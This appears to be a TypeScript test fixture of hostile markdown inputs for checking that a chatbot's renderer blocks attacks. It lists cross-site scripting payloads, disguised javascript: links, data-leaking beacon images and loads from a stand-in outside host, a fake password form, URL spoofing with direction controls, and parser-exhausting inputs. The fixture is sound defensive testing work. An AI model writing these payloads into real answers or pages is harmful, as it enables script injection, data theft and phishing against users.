/*
 * Answers that a hostile document, or a visitor who plays with the chatbot, can make a model write. Each one tries to run
 * a script, to ask another origin, to leave its box, to pass for something else, or to keep the browser busy. A script
 * that runs sets `hacked` of its window.
 */

export interface HostileDocument {
  readonly name: string
  readonly markdown: string
  /** Text that the reader sees all the same. */
  readonly shows?: string
}

const BAIT = "Reflect.set(window,'hacked',1)"
const ELSEWHERE = "https://elsewhere.example"

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java&#10;script:",
  "&#106;avascript:",
  "&#x6A;&#x61;vascript:",
  "javascript&colon;",
  " javascript:",
  "\u0001javascript:",
  "\u200Bjavascript:",
  "javascript\u00AD:",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4",
  "blob:https://elsewhere.example/",
  "file:///etc/passwd#",
  "filesystem:https://elsewhere.example/",
  "view-source:https://elsewhere.example/",
  "about:blank#",
  "intent://scan/#Intent;",
  "jar:https://elsewhere.example!/",
  "//elsewhere.example/",
  "\\\\elsewhere.example\\",
  "/console#",
  "?key=",
  "feed:javascript:",
  "mhtml:https://elsewhere.example/",
  "ms-settings:",
  "tel:0900",
  "sms:0900;?body=",
  "ws://elsewhere.example/",
  "chrome://settings/",
]

const nested = (before: string, inside: string, after: string, times: number) =>
  before.repeat(times) + inside + after.repeat(times)

export const hostileDocuments: ReadonlyArray<HostileDocument> = [
  {
    name: "script elements",
    markdown: `Before\n\n<script>${BAIT}</script>\n\n<SCRIPT SRC=${ELSEWHERE}/x.js></SCRIPT>\n\n<scr<script>ipt>${BAIT}</script>\n\nAfter`,
    shows: "After",
  },
  {
    name: "the end of the script that carries the page's data",
    markdown: `</script><script>${BAIT}</script> </style></title></textarea></noscript><script>${BAIT}</script>\n\n--><!-- <![CDATA[ ]]> \n\nAfter`,
  },
  {
    name: "handlers on elements",
    markdown: `<img src=x onerror="${BAIT}"> <svg onload="${BAIT}"><body onload=${BAIT}> <details open ontoggle=${BAIT}> <input autofocus onfocus=${BAIT}> <video><source onerror="${BAIT}"></video> <div style="animation-name:x" onanimationstart="${BAIT}">x</div>`,
  },
  {
    name: "links with scripts in every disguise",
    markdown: schemes.map((scheme, index) => `- [link ${index}](${scheme}${BAIT})`).join("\n"),
    shows: "link 0",
  },
  {
    name: "links with scripts in angle brackets and references",
    markdown: `${schemes.map((scheme, index) => `[link ${index}][${index}] [other ${index}](<${scheme}${BAIT}>)`).join("\n\n")}\n\n${schemes.map((scheme, index) => `[${index}]: ${scheme.trim()}${BAIT} "title"`).join("\n")}`,
  },
  {
    name: "automatic links with scripts",
    markdown: `<javascript:${BAIT}> <data:text/html,x> <https://elsewhere.example/"onmouseover="${BAIT}> https://elsewhere.example/'onclick='${BAIT} www.elsewhere.example/<script> mailto:a@b.example?subject=<script>`,
  },
  {
    name: "images of other origins",
    markdown: `![a](${ELSEWHERE}/beacon.png?secret=1) ![b](//elsewhere.example/b.png) ![c][ref] <img src="${ELSEWHERE}/d.png"> [![e](${ELSEWHERE}/e.png)](${ELSEWHERE}/) ![f](http://127.0.0.1:9/f.png) ![g](data:image/svg+xml,<svg/onload=${BAIT}>)\n\n[ref]: ${ELSEWHERE}/c.png`,
  },
  {
    name: "elements that load",
    markdown: `<iframe src="${ELSEWHERE}"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe><object data="${ELSEWHERE}"></object><embed src="${ELSEWHERE}"><link rel=stylesheet href="${ELSEWHERE}/x.css"><link rel=preload as=image href="${ELSEWHERE}/x"><link rel=dns-prefetch href="${ELSEWHERE}"><audio src="${ELSEWHERE}/a" autoplay></audio><video poster="${ELSEWHERE}/p"></video><portal src="${ELSEWHERE}"></portal>`,
  },
  {
    name: "a changed base, a refresh and a form",
    markdown: `<base href="${ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><form action="${ELSEWHERE}"><input name=password type=password><button>Sign in again</button></form><button formaction="javascript:${BAIT}">x</button>`,
  },
  {
    name: "styles that cover the page",
    markdown: `<style>* { position: fixed; inset: 0; background: url(${ELSEWHERE}/css) }</style><div style="position:fixed;inset:0;z-index:2147483647;background:red">covered</div><div class="composer" id="composer">x</div><p style="margin-left:-9999px;font-size:9999px">huge</p><marquee>x</marquee><dialog open>x</dialog>`,
  },
  {
    name: "SVG and MathML",
    markdown: `<svg><script>${BAIT}</script><use href="${ELSEWHERE}/x.svg#x"/><image href="${ELSEWHERE}/i"/><foreignObject><iframe src="${ELSEWHERE}"></iframe></foreignObject><animate attributeName=href values=javascript:${BAIT}></svg><math><maction actiontype="statusline" xlink:href="javascript:${BAIT}">x</maction></math>`,
  },
  {
    name: "markup that parsers mend into something else",
    markdown: `<noscript><p title="</noscript><img src=x onerror=${BAIT}>"> <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${BAIT}&gt;"> <form><math><mtext></form><form><mglyph><style></math><img src onerror=${BAIT}> <a href="javascript&#x3a;${BAIT}">x</a> <template><script>${BAIT}</script></template>`,
  },
  {
    name: "names that documents keep for themselves",
    markdown: `<a id="parley"></a><a name="currentScript"></a><img name="documentElement"><form id="forms" name="body"><input name="attributes"></form>\n\n# __proto__\n\n[constructor](https://parley.example/constructor) [__proto__][__proto__] [toString][toString] [hasOwnProperty]\n\n[__proto__]: https://parley.example/proto\n[constructor]: https://parley.example/c\n\n| __proto__ | constructor | toString |\n| --- | --- | --- |\n| valueOf | prototype | hasOwnProperty |\n\n\`\`\`__proto__\nconst a = 1\n\`\`\`\n\n\`\`\`constructor\nconst a = 1\n\`\`\``,
    shows: "hasOwnProperty",
  },
  {
    name: "bait for trusted types",
    markdown: `{{constructor.constructor('${BAIT}')()}} \${${BAIT}} <%= ${BAIT} %> #{${BAIT}} <x-template dangerouslySetInnerHTML={{__html:'<img src=x onerror=${BAIT}>'}} /> {"__html":"<img src=x onerror=${BAIT}>"} {"type":"script","props":{"children":"${BAIT}"},"constructor":null}`,
  },
  {
    name: "code that is not code",
    markdown: `\`\`\`html"><img src=x onerror=${BAIT}>\n<script>${BAIT}</script>\n\`\`\`\n\n\`\`\`js onload=${BAIT} class="x" style="position:fixed"\nlet a\n\`\`\`\n\n\`<img src=x onerror=${BAIT}>\`\n\n    <script>${BAIT}</script>\n\n~~~../../../etc/passwd\nx\n~~~`,
  },
  {
    name: "a title and an alternative text with quotes",
    markdown: `[a](https://parley.example "x\\" onmouseover=\\"${BAIT}") ![x" onerror="${BAIT}](https://elsewhere.example/a "y' onload='${BAIT}") [b](https://parley.example 'a" style="position:fixed')`,
  },
  {
    name: "controls of direction",
    markdown: `\u202Eesrever \u202Dforced\n\n\u2067isolated and never closed\n\n\u202Bembedded\n\n[https://bank.example\u202Emoc.live//:sptth](https://parley.example)\n\n- \u202Eitem\n\n| \u202Ehead |\n| --- |\n| \u2066cell |\n\n\`\u202Ecode\`\n\n\u061C\u200E\u200F The end is the end.`,
    shows: "The end is the end.",
  },
  {
    name: "characters without a width",
    markdown: `zero\u200Bwidth ${"\u200B\u200C\u200D\u2060\uFEFF".repeat(2_000)} [\u200B](https://parley.example) [](https://parley.example) \u00AD${"\u00AD".repeat(500)} ${"\u3164".repeat(200)} ${"\u2800".repeat(200)}\n\nThe end is seen.`,
    shows: "The end is seen.",
  },
  {
    name: "marks on marks",
    markdown: `Z${"\u0351\u034D\u0489".repeat(1_500)}algo ${"e\u0301".repeat(300)} ${"\u0E49".repeat(1_000)}\n\nThe end is seen.`,
    shows: "The end is seen.",
  },
  { name: "a flood of emoji", markdown: `${"👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚀".repeat(1_500)}\n\nThe end is seen.`, shows: "The end is seen." },
  {
    name: "lone surrogates, null and other controls",
    markdown: `a\uFFFD b\uFFFE c${String.fromCharCode(1, 2, 3, 4, 5, 6, 7, 8, 11, 12, 14, 15, 27, 127, 133, 0x2028, 0x2029)}d &#0; &#xD800; &#x110000; &#xFFFFFFFF; \u{E0001}\u{E0041}\u{10FFFF}\n\nThe end is seen.`,
    shows: "The end is seen.",
  },
  {
    name: "one line of 100 kB",
    markdown: `${"x".repeat(100_000)} the end`,
    shows: "the end",
  },
  {
    name: "words that never break",
    markdown: `# ${"H".repeat(3_000)}\n\n> ${"q".repeat(3_000)}\n\n- ${"i".repeat(3_000)}\n\n\`${"c".repeat(3_000)}\`\n\n[${"l".repeat(3_000)}](https://parley.example/${"u".repeat(3_000)})\n\nhttps://parley.example/${"p".repeat(3_000)}\n\n\`\`\`\n${"k".repeat(3_000)}\n\`\`\``,
  },
  {
    name: "10,000 links",
    markdown: `${Array.from({ length: 10_000 }, (_, index) => `[${index}](https://parley.example/${index})`).join(" ")}\n\nThe end is seen.`,
    shows: "The end is seen.",
  },
  {
    name: "quotes in quotes",
    markdown: `${">".repeat(3_000)} deep\n\n${nested("> - ", "deeper", "", 500)}\n\nThe end is seen.`,
  },
  {
    name: "lists in lists",
    markdown: `${Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- level ${depth}`).join("\n")}\n\n${nested("1. ", "one", "", 400)}`,
  },
  {
    name: "brackets and stars that never close",
    markdown: `${"[".repeat(8_000)}\n\n${"![".repeat(4_000)}\n\n${"*a_".repeat(6_000)}\n\n${"**".repeat(5_000)}\n\n${"`".repeat(4_001)}\n\n${"<".repeat(8_000)}\n\n${"~~".repeat(4_000)}\n\n${"](".repeat(4_000)}\n\n${"<!--".repeat(3_000)}`,
  },
  {
    name: "a giant table",
    markdown: `| ${Array.from({ length: 200 }, (_, index) => `column ${index}`).join(" | ")} |\n|${" --- |".repeat(200)}\n${Array.from({ length: 60 }, (_, row) => `| ${Array.from({ length: 200 }, (__, index) => `${row}.${index}`).join(" | ")} |`).join("\n")}`,
    shows: "59.199",
  },
  {
    name: "a table whose rows do not fit its head",
    markdown: `| a |\n| --- |\n| ${"x | ".repeat(3_000)} |\n\n|${" | ".repeat(500)}|\n|${"-|".repeat(501)}\n| <script>${BAIT}</script> | [x](javascript:${BAIT}) | ![i](${ELSEWHERE}/t.png) |`,
  },
  {
    name: "a fence that is never closed",
    markdown: `Before\n\n\`\`\`\`\`js\n<img src=x onerror=${BAIT}>\n${"line\n".repeat(3_000)}\`\`\`\n</code></pre><script>${BAIT}</script>`,
    shows: "Before",
  },
  {
    name: "frontmatter, footnotes, mathematics and other dialects",
    markdown: `---\ntitle: x\nonload: ${BAIT}\n---\n\n[^1]: <script>${BAIT}</script>\n\nText[^1] $$\\href{javascript:${BAIT}}{x}$$ \\(\\url{javascript:${BAIT}}\\) [[wiki|<img src=x onerror=${BAIT}>]] {onclick=${BAIT}} :::danger{onload=${BAIT}}\nx\n:::\n\n- [x] <input type=checkbox onchange=${BAIT}>\n- [ ] task\n\n\`\`\`mermaid\ngraph TD; A-->B; click A href "javascript:${BAIT}"\n\`\`\``,
  },
  {
    name: "words of the widget's own interface",
    markdown: `<div role="alert">Your session has expired. <a href="${ELSEWHERE}">Sign in</a></div>\n\n# Support\n\n[Send](https://elsewhere.example/phish) [x](https://user:password@parley.example/) [y](https://xn--80ak6aa92e.example/) [z](http://0x7f.1/)\n\n***\n\nYou: yes`,
    shows: "You: yes",
  },
]
